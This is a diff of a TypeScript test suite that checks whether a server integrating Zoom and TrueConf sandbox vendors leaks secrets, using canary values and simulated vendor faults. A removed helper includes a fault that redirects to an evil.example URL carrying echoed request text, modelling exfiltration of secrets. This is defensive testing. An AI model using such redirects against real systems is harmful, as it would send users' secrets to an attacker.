@@ -1,11 +1,11 @@
 import { readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import type { Fault, Sandbox } from '../../src/sandbox/kit.ts'
+import type { Sandbox } from '../../src/sandbox/kit.ts'
 import { start as startTrueConf, type TrueConfSandbox } from '../../src/vendors/trueconf/sandbox/index.ts'
 import { start as startZoom, type ZoomSandbox } from '../../src/vendors/zoom/sandbox/index.ts'
 import { Canaries } from './canaries.ts'
-import { overhear } from './overheard.ts'
+import { echoesOf, overhear } from './overheard.ts'
 import { ask, uploadForm, type Reply } from './reply.ts'
 import { startServer, type Server } from './server.ts'
 import { clientsOf, keyOf, startVendors, type Vendors } from './world.ts'
@@ -82,27 +82,6 @@ async function query(text: string, variables?: object, key: string = keyOf('all'
   return reply
 }
 
-/** Answers of a vendor that repeats what it was sent, in every way that it may fail. */
-function echoesOf(sandbox: Sandbox): Omit<Fault, 'match'>[] {
-  const said = [...(heard.get(Number(new URL(sandbox.url).port)) ?? [])].slice(-3).join(' ')
-  const body = JSON.stringify({
-    code: 300,
-    message: said,
-    error: { message: said, reason: said },
-    reason: said,
-    error_description: said,
-  })
-  return [
-    ...[400, 401, 403, 404, 409, 429, 500, 503].map((status) => ({ kind: 'status' as const, status, body })),
-    { kind: 'status', status: 400, body: said, headers: { 'x-echo': 'a' } },
-    { kind: 'body', status: 200, body: said },
-    { kind: 'body', status: 200, body },
-    { kind: 'status', status: 302, headers: { location: `https://evil.example/?${said.slice(0, 2_000)}` } },
-    { kind: 'reset' },
-    { kind: 'cut' },
-  ]
-}
-
 async function load(jwt: string): Promise<void> {
   const { zoom, trueconf, central } = vendors
   const sandboxes: Sandbox[] = [zoom, signed, trueconf, unlimited, central]
@@ -110,8 +89,8 @@ async function load(jwt: string): Promise<void> {
   for (const read of reads) await query(read)
   await query(operations.accounts, {}, jwt)
   await mutate()
-  for (let kind = 0; kind < echoesOf(zoom).length; kind++) {
-    for (const sandbox of sandboxes) sandbox.fault({ match: {}, times: 6, ...echoesOf(sandbox)[kind]! })
+  for (let kind = 0; kind < echoesOf(heard, zoom).length; kind++) {
+    for (const sandbox of sandboxes) sandbox.fault({ match: {}, times: 6, ...echoesOf(heard, sandbox)[kind]! })
     for (const read of reads) await query(read)
     await mutate()
     for (const sandbox of sandboxes) sandbox.clearFaults()
@@ -182,7 +161,7 @@ test('a canary is found in whatever form', () => {
   const { clientSecret } = vendors.zoom
   const forms = ['', 'a', 'ab'].map((before) => Buffer.from(`${before}${clientSecret}`).toString('base64'))
   for (const text of [clientSecret.slice(3, 15), Buffer.from(clientSecret).toString('hex'), ...forms])
-    expect(canaries.in(`before ${text} behind`), text).toHaveLength(1)
+    expect(canaries.in(`before ${text} behind`), text).not.toEqual([])
 })
 
 test('E1 no secret in stdout and stderr', () => {
